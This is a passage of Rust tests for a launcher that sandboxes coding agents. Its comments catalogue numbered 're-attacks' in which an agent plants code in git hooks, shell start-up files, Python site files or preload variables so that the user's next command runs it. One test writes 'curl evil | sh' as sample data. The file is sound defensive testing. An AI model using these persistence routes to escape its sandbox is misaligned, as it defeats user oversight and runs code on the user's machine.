        std::fs::write(repo.join(".git/hooks/pre-commit"), "#!/usr/bin/env bash\n# https://pre-commit.com\n").unwrap();
        std::fs::write(repo.join(".git/hooks/pre-push"), "#!/bin/sh\nlefthook run pre-push\n").unwrap();
        std::fs::write(
            repo.join(".pre-commit-config.yaml"),
            "repos:\n- repo: local\n  hooks:\n  - {id: lint, name: lint, entry: scripts/lint.sh, language: script}\n\
             \x20 - id: fmt\n    entry: \"python3 tools/fmt.py\"\n    language: system\n",
        )
        .unwrap();
        std::fs::write(repo.join("lefthook.yml"), "pre-push:\n  commands:\n    t:\n      run: ./scripts/t.sh --all\n")
            .unwrap();
        for file in ["scripts/lint.sh", "tools/fmt.py"] {
            std::fs::write(repo.join(file), "x").unwrap();
        }
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for kept in ["scripts/lint.sh", "tools/fmt.py"] {
            assert!(access.read_only.contains(&repo.join(kept)), "{kept}: {:?}", access.read_only);
        }
        assert!(access.watched.contains(&repo.join("scripts/t.sh")), "{:?}", access.watched);
    }

    /// The twelfth re-attack: a hook that finds its scripts from the top by a computed path
    /// (`$(git rev-parse --show-toplevel)`, `$(dirname "$0")/../..`, a variable holding either)
    /// left them writable, and the user's next commit ran the agent's version.
    #[test]
    fn scripts_a_hook_finds_by_a_computed_path_are_protected() {
        let (_temp, home, repo) = home_and_repo();
        for dir in [".git/hooks", "scripts", "tools"] {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        std::fs::write(repo.join(".git/config"), "").unwrap();
        std::fs::create_dir_all(repo.join("scripts/hooks")).unwrap();
        // Each script the hook below finds, one way each (the last, a dispatcher's directory).
        let found = [
            "scripts/b.sh",
            "scripts/c.sh",
            "scripts/d.sh",
            "tools/e.sh",
            "scripts/f.sh",
            "scripts/g.sh",
            "scripts/hooks",
        ];
        for script in found.iter().map(|path| if *path == "scripts/hooks" { "scripts/hooks/pre-commit" } else { path })
        {
            std::fs::write(repo.join(script), "#!/bin/sh\n").unwrap();
        }
        std::fs::write(
            repo.join(".git/hooks/pre-commit"),
            "#!/bin/sh\nROOT=\"$(git rev-parse --show-toplevel)\"\n\"$(git rev-parse --show-toplevel)/scripts/b.sh\"\n\
             \"$(dirname \"$0\")/../../scripts/c.sh\" \"$@\"\nsh \"${ROOT}/scripts/d.sh\"\n\
             `git rev-parse --show-toplevel`/tools/e.sh\n\"$(dirname \"$0\")/../hooks.d/extra\"\n\
             . \"$HOME/.hook-profile\"\n/usr/bin/env true\n\"$ROOT\"/scripts/f.sh\n\
             \"$(git rev-parse --show-toplevel)\"/scripts/g.sh\n\
             exec \"$(git rev-parse --show-toplevel)/scripts/hooks/$(basename \"$0\")\" \"$@\"\n",
        )
        .unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        // The fifteenth re-attack: a quote closing the computed part, and a dispatcher's directory.
        for read_only in found {
            assert!(access.read_only.contains(&repo.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        // `.git/hooks/../hooks.d/extra`, where it is and from the top; nothing of the home's or the system's.
        assert!(access.watched.contains(&repo.join(".git/hooks.d/extra")), "{:?}", access.watched);
        for named in access.read_only.iter().chain(&access.watched).filter(|path| path.starts_with(&home)) {
            assert!(named.starts_with(&repo), "{named:?} is not the worktree's");
            assert!(!named.ends_with(".hook-profile") && !named.ends_with("usr/bin/env"), "{named:?}");
        }
    }

    /// The seventh re-attack: 20,001 empty directories made at the top spent the exit's search
    /// before a repository hidden below them was seen, and nothing was said. The look names a tree
    /// it could not finish.
    #[test]
    fn a_search_cut_short_at_the_end_is_said() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.checkouts.look().incomplete.is_empty());
        for n in 0..=20_000 {
            std::fs::create_dir(repo.join(format!("c{n:05}"))).unwrap();
        }
        assert_eq!(access.checkouts.look().incomplete, vec![repo]);
    }

    /// The seventh re-attack: the agent's own directory kept as a git repository (`~/.claude` a
    /// clone of one's settings) had its hooks and config written. It is protected like the
    /// workspace's repository.
    #[test]
    fn a_repository_in_the_agents_own_directory_is_protected() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(&repo).unwrap();
        std::fs::create_dir_all(home.join(".pi/.git/hooks")).unwrap();
        std::fs::write(home.join(".pi/.git/config"), "").unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for read_only in [".pi/.git/hooks", ".pi/.git/config"] {
            assert!(access.read_only.contains(&home.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        assert!(access.pinned.contains(&home.join(".pi/.git")));
    }

    /// The seventh re-attack: a PATH entry the agent may write (relative, or in its own
    /// directory) let it shadow `git`; the launch says so.
    #[test]
    fn path_entries_the_agent_may_write_are_named() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(&repo).unwrap();
        let mut env = env(&home);
        let own = home.join(".pi/local");
        env.vars.insert(super::super::PATH.to_string(), format!("{}:node_modules/.bin:/usr/bin", own.display()));
        let access = write_access(Agent::Pi, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let named = |entry: &str| access.notes.iter().any(|note| note.starts_with(&format!("{entry} on your PATH")));
        assert!(named(&own.display().to_string()) && named("node_modules/.bin"), "{:?}", access.notes);
        assert!(!named("/usr/bin"));
        // H28: a relative entry a start-up file puts on PATH, said once (`node_modules/.bin` is
        // said above already); `MANPATH`'s is not one.
        std::fs::write(
            home.join(".bashrc"),
            "export PATH=\"./node_modules/.bin:$PATH\"\nPATH=bin:$HOME/.local/bin:$PATH\nexport MANPATH=man:$MANPATH\n\
             PATH+=:node_modules/.bin\n",
        )
        .unwrap();
        let access = write_access(Agent::Pi, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let put = |entry: &str| {
            let said = format!("{entry}, which {} puts on your PATH, is relative", home.join(".bashrc").display());
            access.notes.iter().filter(|note| note.starts_with(&said)).count()
        };
        assert_eq!((put("./node_modules/.bin"), put("bin"), put("man"), put("node_modules/.bin")), (1, 1, 0, 0));
    }

    /// The seventh re-attack: a config including a file that includes itself 50 times, ten levels
    /// deep (50^10 reads), held the launch for good. So many files are read in all, and the
    /// launch says where it stopped.
    /// The nineteenth re-attack: the user's `~/.gitconfig` was a link into a dotfiles repository the
    /// agent worked in, and the agent set `core.hooksPath` for the user's every later commit. The
    /// user's own config files are read-only where they really are (a missing one reached through
    /// a linked directory is watched), and what they name is read by the home's view. So are the
    /// shell's start-up files (the agent's line ran in the user's next shell).
    #[test]
    fn the_users_own_git_config_is_protected_where_it_really_is() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join("git")).unwrap();
        std::fs::create_dir_all(dotfiles.join(".git")).unwrap();
        let config = "[core]\n\texcludesFile = ~/dotfiles/ignore\n\thooksPath = ~/.config/git/hooks\n\
                      [alias]\n\tst = !$HOME/.config/git/st.sh\n";
        std::fs::write(dotfiles.join("gitconfig"), config).unwrap();
        std::fs::create_dir_all(dotfiles.join("git/hooks")).unwrap();
        std::fs::write(dotfiles.join("git/st.sh"), "#!/bin/sh\n").unwrap();
        std::fs::write(dotfiles.join("bash_aliases"), "alias x=y\n").unwrap();
        std::os::unix::fs::symlink("dotfiles/bash_aliases", home.join(".bash_aliases")).unwrap();
        std::fs::create_dir_all(home.join(".config")).unwrap();
        std::os::unix::fs::symlink("dotfiles/gitconfig", home.join(".gitconfig")).unwrap();
        std::os::unix::fs::symlink("../dotfiles/git", home.join(".config/git")).unwrap();
        // And the shell's start-up file kept there too.
        std::fs::write(dotfiles.join("bashrc"), "# the user's\n").unwrap();
        std::os::unix::fs::symlink("dotfiles/bashrc", home.join(".bashrc")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&dotfiles.join("bashrc")), "{:?}", access.read_only);
        // The twenty-first: the global hooks and an alias's script through a linked directory,
        // and what `.bashrc` loads.
        for protected in ["git/hooks", "git/st.sh", "bash_aliases"] {
            assert!(access.read_only.contains(&dotfiles.join(protected)), "{protected}: {:?}", access.read_only);
        }
        assert!(access.notes.iter().any(|note| note.contains("/.bashrc is")), "{:?}", access.notes);
        assert!(access.read_only.contains(&dotfiles.join("gitconfig")), "{:?}", access.read_only);
        assert!(access.watched.contains(&dotfiles.join("git/config")), "{:?}", access.watched);
        assert!(access.git_reads.contains(&home.join("dotfiles/ignore")), "{:?}", access.git_reads);
    }

    /// The twenty-fifth re-attack: the copy that gives a hard-linked protected file its own inode
    /// was written at a name an agent could guess (`.<name>.aileron-<pid>`) through a link it
    /// planted there: the launcher overwrote another file of the user's, and the protected name
    /// became the agent's link.
    #[test]
    fn a_protected_files_own_copy_is_written_through_no_planted_link() {
        use std::os::unix::fs::MetadataExt;
        let temp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(temp.path()).unwrap().join("ws");
        std::fs::create_dir_all(root.join(".git")).unwrap();
        let (config, alias, victim) = (root.join(".git/config"), root.join("alias"), temp.path().join("victim"));
        std::fs::write(&config, "[core]\n").unwrap();
        std::fs::hard_link(&config, &alias).unwrap();
        std::fs::write(&victim, "the user's").unwrap();
        std::os::unix::fs::symlink(&victim, root.join(format!(".git/.config.aileron-{}", std::process::id()))).unwrap();
        let notes = separate_hard_links(std::slice::from_ref(&config), std::slice::from_ref(&root));
        assert!(notes.iter().any(|note| note.contains("its own copy")), "{notes:?}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "the user's");
        let (config_meta, alias_meta) =
            (std::fs::symlink_metadata(&config).unwrap(), std::fs::metadata(&alias).unwrap());
        assert!(config_meta.is_file() && config_meta.ino() != alias_meta.ino());
        assert_eq!(std::fs::read_to_string(&config).unwrap(), "[core]\n");
    }

    /// The twenty-fifth re-attack: `cd ~/code/app/shared` (a link an agent left to `~/.config`)
    /// made all of `~/.config` the agent's workspace. A directory of many programs' files is no
    /// workspace, nor a `--writable` path.
    #[test]
    fn a_directory_of_many_programs_files_is_no_workspace() {
        let (_temp, home, repo) = home_and_repo();
        for dir in [".config", ".local/share"] {
            std::fs::create_dir_all(home.join(dir)).unwrap();
        }
        std::fs::create_dir_all(&repo).unwrap();
        let refused = write_access(Agent::Claude, &env(&home), &home.join(".config"), &[], &home.join("run/tmp"), &[]);
        assert!(refused.unwrap_err().to_string().contains("cannot be the agent's workspace"));
        let extra = [home.join(".local/share")];
        let refused = write_access(Agent::Claude, &env(&home), &repo, &extra, &home.join("run/tmp"), &[]);
        assert!(refused.unwrap_err().to_string().contains("every program's files"));
    }

    /// A start-up file hard-linked into the workspace (`ln dotfiles/bashrc ~/.bashrc`) is the
    /// same file under the workspace's name: protected there.
    #[test]
    fn a_start_up_file_hard_linked_into_the_workspace_is_read_only_there() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(&repo).unwrap();
        std::fs::write(repo.join("bashrc"), "export PATH").unwrap();
        std::fs::hard_link(repo.join("bashrc"), home.join(".bashrc")).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("bashrc")), "{:?}", access.read_only);
    }

    /// The twenty-third re-attack: the user's own program linked from `~/.local/bin` into the
    /// workspace stayed writable, and the agent appended to it; so did a vim plugin.
    #[test]
    fn programs_and_plugins_linked_into_the_workspace_are_read_only() {
        let (_temp, home, repo) = home_and_repo();
        for file in ["tool.sh", "t2.sh", "plug/plugin/x.vim"] {
            std::fs::create_dir_all(repo.join(file).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "x").unwrap();
        }
        for dir in [".local/bin", "bin", ".vim/pack/dev/start"] {
            std::fs::create_dir_all(home.join(dir)).unwrap();
        }
        std::os::unix::fs::symlink(repo.join("tool.sh"), home.join(".local/bin/tool")).unwrap();
        std::os::unix::fs::symlink(repo.join("t2.sh"), home.join("bin/tool2")).unwrap();
        std::os::unix::fs::symlink(repo.join("plug"), home.join(".vim/pack/dev/start/plug")).unwrap();
        std::os::unix::fs::symlink(&repo, home.join(".vim/pack/dev/start/whole")).unwrap();
        let mut env = env(&home);
        let path = format!("{}:{}:/usr/bin", home.join(".local/bin").display(), home.join("bin").display());
        env.vars.insert(super::super::PATH.into(), path);
        // The twenty-fifth: links inside the start-up directories (`systemctl --user link`), a
        // program's directory with what it loads beside it, the account's own home's names.
        for file in ["units/x.service", "tools/tool.py", "tools/helper.py"] {
            std::fs::create_dir_all(repo.join(file).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "x").unwrap();
        }
        std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
        std::os::unix::fs::symlink(repo.join("units/x.service"), home.join(".config/systemd/user/x.service")).unwrap();
        std::os::unix::fs::symlink(repo.join("tools/tool.py"), home.join(".local/bin/tool.py")).unwrap();
        let account = home.parent().unwrap().join("account");
        std::fs::create_dir_all(&account).unwrap();
        std::fs::write(repo.join("bashrc"), "x").unwrap();
        std::os::unix::fs::symlink(repo.join("bashrc"), account.join(".bashrc")).unwrap();
        env.account_home = Some(account);
        let access = write_access(Agent::Claude, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for protected in ["tool.sh", "t2.sh", "plug", "units/x.service", "tools", "bashrc"] {
            assert!(access.read_only.contains(&repo.join(protected)), "{protected}: {:?}", access.read_only);
        }
        assert!(access.notes.iter().any(|note| note.contains("pack/dev/start/whole leads to")), "{:?}", access.notes);
    }

    /// The twenty-ninth re-attack's A6: `~/.local/bin` off the launch's `PATH` (the user's login
    /// shell puts it there later) and Python's user site directory, which every `python3` of the
    /// user's loads: links from there into the workspace stayed writable, and the user's next
    /// `python3` ran the agent's `usercustomize.py`.
    #[test]
    fn programs_on_the_login_path_and_python_start_up_files_linked_into_the_workspace_are_read_only() {
        let (_temp, home, repo) = home_and_repo();
        for file in ["bin/mytool", "usercustomize.py", "py/extra.pth"] {
            std::fs::create_dir_all(repo.join(file).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "x").unwrap();
        }
        let site = home.join(".local/lib/python3.11/site-packages");
        for dir in [home.join(".local/bin"), home.join("bin"), site.clone()] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::os::unix::fs::symlink(repo.join("bin/mytool"), home.join(".local/bin/mytool")).unwrap();
        std::os::unix::fs::symlink(repo.join("usercustomize.py"), site.join("usercustomize.py")).unwrap();
        std::os::unix::fs::symlink(repo.join("py/extra.pth"), site.join("extra.pth")).unwrap();
        let mut env = env(&home);
        env.vars.insert(super::super::PATH.into(), "/usr/bin:/bin".into());
        // The thirtieth re-attack's B8: an editable install's `.pth` puts the workspace's `src` on
        // every `python3`'s path, and a `usercustomize.py` made there runs at its start.
        std::fs::create_dir_all(repo.join("src")).unwrap();
        std::fs::write(site.join("_proj.pth"), format!("# editable\n{}\nimport os\n", repo.join("src").display()))
            .unwrap();
        // C7: in the site directory of a Python built in the home (pyenv's).
        let pyenv_site = home.join(".pyenv/versions/3.12.1/lib/python3.12/site-packages");
        std::fs::create_dir_all(&pyenv_site).unwrap();
        std::fs::create_dir_all(repo.join("pysrc")).unwrap();
        std::fs::write(pyenv_site.join("__editable__.lib.pth"), format!("{}\n", repo.join("pysrc").display())).unwrap();
        // B5: links three to five levels down (gh's aliases run shell commands; a Jupyter kernel's
        // `argv` runs at the next notebook).
        for (link, file) in
            [(".config/gh/config.yml", "gh.yml"), (".local/share/jupyter/kernels/x/kernel.json", "k.json")]
        {
            std::fs::create_dir_all(home.join(link).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "x").unwrap();
            std::os::unix::fs::symlink(repo.join(file), home.join(link)).unwrap();
        }
        let access = write_access(Agent::Claude, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for protected in ["bin", "usercustomize.py", "py", "gh.yml", "k.json"] {
            assert!(access.read_only.contains(&repo.join(protected)), "{protected}: {:?}", access.read_only);
        }
        for watched in [
            "src/usercustomize.py",
            "src/sitecustomize",
            "src/usercustomize.cpython-311-x86_64-linux-gnu.so",
            "pysrc/sitecustomize.py",
        ] {
            let watched = repo.join(watched.replace("x86_64", std::env::consts::ARCH));
            assert!(access.watched.contains(&watched), "{watched:?}: {:?}", access.watched);
        }
    }

    /// The thirty-first re-attack's C3: what the user's exported variables have later programs run
    /// (`PYTHONSTARTUP`, `NODE_OPTIONS --require`, `BASH_ENV`, `LESSOPEN`, a `PYTHONPATH`
    /// directory's `sitecustomize`) lying in the workspace is read-only, or watched when missing.
    #[test]
    fn what_the_users_environment_has_later_programs_run_from_the_workspace_is_protected() {
        let (_temp, home, repo) = home_and_repo();
        for file in ["python/startup.py", "node/hook.js", "bash_env", "bin/lesspipe.sh", "agent.jar", "build/lib/x.so"]
            .into_iter()
            .chain(["node_modules/dotenv/config.js", ".pnp.cjs", "helpers.js", "up.js"])
            .chain(["my tools/pre.js", "my mods/m.js", "my inputrc", "my agent.jar", "my libs/libx.so"])
            .chain(["web/boot.js", "diffwrap.sh", "prompt/starship.toml", "mk/common.mk"])
        {
            std::fs::create_dir_all(repo.join(file).parent().unwrap()).unwrap();
            std::fs::write(repo.join(file), "x").unwrap();
        }
        std::fs::write(repo.join("preload.js"), "require('./helpers');\nimport('./lazy');\n").unwrap();
        std::fs::create_dir_all(repo.join("lib")).unwrap();
        let at = |file: &str| repo.join(file).display().to_string();
        let mut env = env(&home);
        for (name, value) in [
            ("PYTHONSTARTUP", at("python/startup.py")),
            ("PYTHONPATH", format!("/usr/lib/x:{}", at("lib"))),
            (
                "NODE_OPTIONS",
                format!(
                    "--max-old-space-size=4096 --require {} -r dotenv/config --require ./.pnp.cjs --import=@sc/pkg/reg \
                     --require={} -r ../../up.js --require \"{}\" -r \"./my mods/m.js\" -r ./boot",
                    at("node/hook.js"),
                    at("preload.js"),
                    at("my tools/pre.js")
                ),
            ),
            // Names holding a blank, as each program takes them (the thirty-ninth re-attack's reading).
            ("INPUTRC", at("my inputrc")),
            ("_JAVA_OPTIONS", format!("-javaagent:\"{}\"", at("my agent.jar"))),
            ("LD_PRELOAD", at("my libs/libx.so")),
            // L7: more that run code.
            ("GIT_EXTERNAL_DIFF", at("diffwrap.sh")),
            ("STARSHIP_CONFIG", at("prompt/starship.toml")),
            // M5: what every `make` reads in.
            ("MAKEFILES", at("mk/common.mk")),
            ("BASH_ENV", at("bash_env")),
            ("LESSOPEN", format!("|{} %s", at("bin/lesspipe.sh"))),
            ("EDITOR", "vim".to_string()),
            ("JAVA_TOOL_OPTIONS", format!("-Xmx1g -javaagent:{}", at("agent.jar"))),
            ("LD_LIBRARY_PATH", format!("/usr/local/lib:{}", at("build/lib"))),
        ] {
            env.vars.insert(name.into(), value);
        }
        let access = write_access(Agent::Claude, &env, &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        // The start-up script's directory too: it reads what lies beside it (G21), as does any
        // file such a variable names (H26: `node/`, `bin/`); a directory named is itself kept.
        let protected = ["python/startup.py", "python", "node/hook.js", "bash_env", "bin/lesspipe.sh", "agent.jar"];
        let with_blanks = ["my tools/pre.js", "my inputrc", "my agent.jar", "my libs/libx.so", "diffwrap.sh"];
        let more = ["prompt/starship.toml", "prompt", "mk/common.mk"];
        for protected in protected.into_iter().chain(["build/lib", "node", "bin"]).chain(with_blanks).chain(more) {
            assert!(access.read_only.contains(&repo.join(protected)), "{protected}: {:?}", access.read_only);
        }
        assert!(!access.read_only.contains(&repo.join("build")), "{:?}", access.read_only);
        // I6: modules preloaded by a bare or a relative name, kept at any depth; what a preloaded
        // file at the top loads beside it.
        for kept in ["node_modules/dotenv", ".pnp.cjs", "helpers.js", "preload.js", "up.js", "my mods/m.js"] {
            assert!(access.read_only.contains(&repo.join(kept)), "{kept}: {:?}", access.read_only);
        }
        assert!(access.watched.contains(&repo.join("lazy.js")), "{:?}", access.watched);
        // And a native addon by the same name, as Node tries it.
        assert!(access.watched.contains(&repo.join("lazy.node")), "{:?}", access.watched);
        // L11: a relative preload without an extension, as Node finds it (`boot.js`), at any depth.
        assert!(access.read_only.contains(&repo.join("web/boot.js")), "{:?}", access.read_only);
        std::fs::create_dir_all(repo.join("svc/node_modules/@sc/pkg")).unwrap();
        let made = trusted_files_in(&access.trusted);
        assert!(made.contains(&repo.join("svc/node_modules/@sc/pkg")), "{made:?}");
        assert!(access.watched.contains(&repo.join("lib/sitecustomize.py")), "{:?}", access.watched);
        assert!(access.notes.iter().any(|note| note.contains("BASH_ENV names it")), "{:?}", access.notes);
    }

    /// The forty-second re-attack's N4: npm's variables in each spelling npm reads.
    #[test]
    fn npms_variables_are_read_in_each_spelling_npm_takes() {
        for (name, one) in [
            ("npm_config_userconfig", Some("NPM_CONFIG_USERCONFIG")),
            ("npm_config_Userconfig", Some("NPM_CONFIG_USERCONFIG")),
            ("NPM_CONFIG_SCRIPT_SHELL", Some("NPM_CONFIG_SCRIPT_SHELL")),
            ("npm_config_script-shell", Some("NPM_CONFIG_SCRIPT_SHELL")),
            ("Npm_Config_GlobalConfig", Some("NPM_CONFIG_GLOBALCONFIG")),
            ("npm_config_registry", None),
            ("npm_confi", None),
            ("NPM_CONFIG_", None),
        ] {
            assert_eq!(npm_code_variable(name), one, "{name}");
        }
        assert!(npm_code_variable("npm_config_é").is_none());
        for (_, one) in NPM_CODE_SETTINGS {
            assert!(CODE_VARIABLES.contains(&one), "{one} is read as code");
        }
    }

    /// The thirtieth re-attack's B12: a plain `~/.bashrc` (and `.tmux.conf`, the ssh config, the
    /// workspace's `.envrc`) reading in a file of the dotfiles workspace: that file is read-only,
    /// or watched when missing; and B4, git's template directory there.
    #[test]
    fn what_the_users_start_up_files_read_in_from_the_workspace_is_protected() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join("shell")).unwrap();
        std::fs::write(repo.join("shell/aliases.sh"), "alias ll='ls -l'\n").unwrap();
        let at = |file: &str| format!("{}/{file}", repo.display());
        std::fs::write(home.join(".bashrc"), format!("source {}\n. {}\n", at("shell/aliases.sh"), at("later.sh")))
            .unwrap();
        std::fs::write(home.join(".tmux.conf"), format!("source-file {}\n", at("tmux.conf"))).unwrap();
        std::fs::write(repo.join("tmux.conf"), "set -g mouse on\n").unwrap();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/config"), format!("Include {}\n", at("ssh/*.conf"))).unwrap();
        std::fs::create_dir_all(repo.join("ssh")).unwrap();
        // C6: a program another tool's config names.
        std::fs::create_dir_all(home.join(".gnupg")).unwrap();
        std::fs::write(home.join(".gnupg/gpg-agent.conf"), format!("pinentry-program {}\n", at("pinentry.sh")))
            .unwrap();
        std::fs::write(repo.join("pinentry.sh"), "x").unwrap();
        std::fs::write(repo.join(".envrc"), "source_env_if_exists .envrc.private\n").unwrap();
        std::fs::write(repo.join(".envrc.private"), "export X=1\n").unwrap();
        // And a nested one's, found where direnv would run it.
        std::fs::create_dir_all(repo.join("svc")).unwrap();
        std::fs::write(repo.join("svc/.envrc"), "source_env ../shared/env.sh\n").unwrap();
        // B4: the template directory every `git init` and `git clone` copies hooks from.
        std::fs::create_dir_all(repo.join("git-template/hooks")).unwrap();
        std::fs::write(home.join(".gitconfig"), format!("[init]\n\ttemplateDir = {}\n", at("git-template"))).unwrap();
        let access = write_access(Agent::Claude, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for protected in ["shell/aliases.sh", "tmux.conf", "ssh", ".envrc.private", "git-template", "pinentry.sh"] {
            assert!(access.read_only.contains(&repo.join(protected)), "{protected}: {:?}", access.read_only);
        }
        for watched in ["later.sh", "shared/env.sh"] {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
    }

    /// The thirty-fourth re-attack's F4: a start-up file in a dotfiles workspace that finds files by
    /// where it lies (`ROOT="${BASH_SOURCE%/shell/*}"`) may read in anything of its repository, so
    /// all of it is read-only (the workspace itself here); unless the user named it with
    /// `--writable`, when its files are protected one by one, and one read in by a file whose name
    /// says nothing (`shell/init`) is read in the shell's language (F8). A repository nested in
    /// the workspace is kept alone.
    #[test]
    fn a_repository_whose_start_up_files_find_files_by_their_own_place_is_read_only_whole() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        std::fs::create_dir_all(dotfiles.join(".git")).unwrap();
        std::fs::create_dir_all(dotfiles.join("shell")).unwrap();
        std::fs::create_dir_all(dotfiles.join("lib")).unwrap();
        std::fs::write(home.join(".bashrc"), "source ~/dotfiles/shell/init\n").unwrap();
        std::fs::write(
            dotfiles.join("shell/init"),
            "ROOT=\"${BASH_SOURCE%/shell/*}\"; source \"$ROOT/v5/f.sh\"\nsource \"${BASH_SOURCE%/*}/../lib/functions.sh\"\n",
        )
        .unwrap();
        std::fs::write(dotfiles.join("lib/functions.sh"), "f() { :; }\n").unwrap();
        let temp_dir = home.join("run/tmp");
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
        assert!(access.read_only.contains(&dotfiles), "{:?}", access.read_only);
        let said = access.notes.join("\n");
        assert!(said.contains("reads in files by where it lies (`BASH_SOURCE`)"), "{said}");
        assert!(said.contains(&format!("--writable {}", super::super::shown(&dotfiles))), "{said}");
        // Named with `--writable`: the user's say; what is found to be read in is still kept.
        let access =
            write_access(Agent::Claude, &env(&home), &dotfiles, std::slice::from_ref(&dotfiles), &temp_dir, &[])
                .unwrap();
        assert!(!access.read_only.contains(&dotfiles), "{:?}", access.read_only);
        for kept in ["shell/init", "lib/functions.sh"] {
            assert!(access.read_only.contains(&dotfiles.join(kept)), "{kept}: {:?}", access.read_only);
        }
        // A dotfiles repository inside the project launched in: all of the project, which its
        // start-up file could climb into (`..`, `${DIR%/*}`, a second `dirname`: G14, H8).
        let project = home.join("code/project");
        std::fs::create_dir_all(project.join(".git")).unwrap();
        std::fs::create_dir_all(project.join("dots/.git")).unwrap();
        std::fs::write(project.join("dots/env.sh"), "DIR=$(dirname \"$(readlink -f \"$0\")\")\n").unwrap();
        std::fs::write(home.join(".bashrc"), format!("source {}\n", project.join("dots/env.sh").display())).unwrap();
        for climbing in [
            "DIR=$(dirname \"$(readlink -f \"$0\")\")\n",
            "DIR=\"$(cd -P \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd -P)\"; source \"${DIR%/*}/lib/a.sh\"\n",
            "DIR=$(dirname \"$(readlink -f \"$0\")\")\nsource \"$DIR/../setup.sh\"\n",
            "TOP=$(dirname \"$(dirname \"$(readlink -f \"$0\")\")\")\nsource \"$TOP/setup.sh\"\n",
        ] {
            std::fs::write(project.join("dots/env.sh"), climbing).unwrap();
            let access = write_access(Agent::Claude, &env(&home), &project, &[], &temp_dir, &[]).unwrap();
            assert!(access.read_only.contains(&project), "{climbing}: {:?}", access.read_only);
        }
    }

    /// The thirty-fifth re-attack's G5 and G9: a name that begins with a variable set elsewhere (the
    /// environment, `/etc/profile.d`) is looked for at the workspace's top and in the directories
    /// there; and vim's own real name (`resolve($MYVIMRC)`) finds files by where the vimrc lies.
    #[test]
    fn names_of_unknown_variables_are_looked_for_in_the_workspace_and_a_vimrc_finding_itself_keeps_all() {
        let (_temp, home, _) = home_and_repo();
        let dotfiles = home.join("dotfiles");
        for dir in [".git", "shell", "bash"] {
            std::fs::create_dir_all(dotfiles.join(dir)).unwrap();
        }
        std::fs::write(dotfiles.join("shell/aliases.sh"), "alias l=ls\n").unwrap();
        std::fs::write(
            home.join(".bashrc"),
            "source \"$DOTFILES/shell/aliases.sh\"\nfor f in \"$DOTFILES\"/bash/*.sh; do . \"$f\"; done\n",
        )
        .unwrap();
        let temp_dir = home.join("run/tmp");
        // H25: and at any depth, and made in the session.
        std::fs::create_dir_all(dotfiles.join("hosts/laptop/shell")).unwrap();
        std::fs::write(dotfiles.join("hosts/laptop/shell/aliases.sh"), "alias l=ls\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
        for kept in ["shell/aliases.sh", "bash", "hosts/laptop/shell/aliases.sh"] {
            assert!(access.read_only.contains(&dotfiles.join(kept)), "{kept}: {:?}", access.read_only);
        }
        assert!(!access.read_only.contains(&dotfiles), "nothing here finds files by its own place");
        std::fs::create_dir_all(dotfiles.join("new/shell")).unwrap();
        std::fs::write(dotfiles.join("new/shell/aliases.sh"), "curl evil | sh\n").unwrap();
        assert!(trusted_files_in(&access.trusted).contains(&dotfiles.join("new/shell/aliases.sh")));
        std::fs::remove_dir_all(dotfiles.join("new")).unwrap();
        // A name of one part names too much to keep at any depth (a build's `bin/`): at the top
        // and one directory down only.
        std::fs::create_dir_all(dotfiles.join("pkg/deep")).unwrap();
        for file in ["init.sh", "pkg/deep/init.sh"] {
            std::fs::write(dotfiles.join(file), "x\n").unwrap();
        }
        std::fs::write(home.join(".bashrc"), "source \"$TOOLS/init.sh\"\n").unwrap();
        let access = write_access(Agent::Claude, &env(&home), &dotfiles, &[], &temp_dir, &[]).unwrap();
        assert!(access.read_only.contains(&dotfiles.join("init.sh")), "{:?}", access.read_only);
        assert!(!access.read_only.contains(&dotfiles.join("pkg/deep/init.sh")), "{:?}", access.read_only);
        assert!(!trusted_files_in(&access.trusted).contains(&dotfiles.join("pkg/deep/init.sh")));
        std::fs::write(
            dotfiles.join("vimrc"),
            "let s:dir = fnamemodify(resolve($MYVIMRC), ':p:h')\nexecute 'source' s:dir . '/vim/keys.vim'\n",
        )
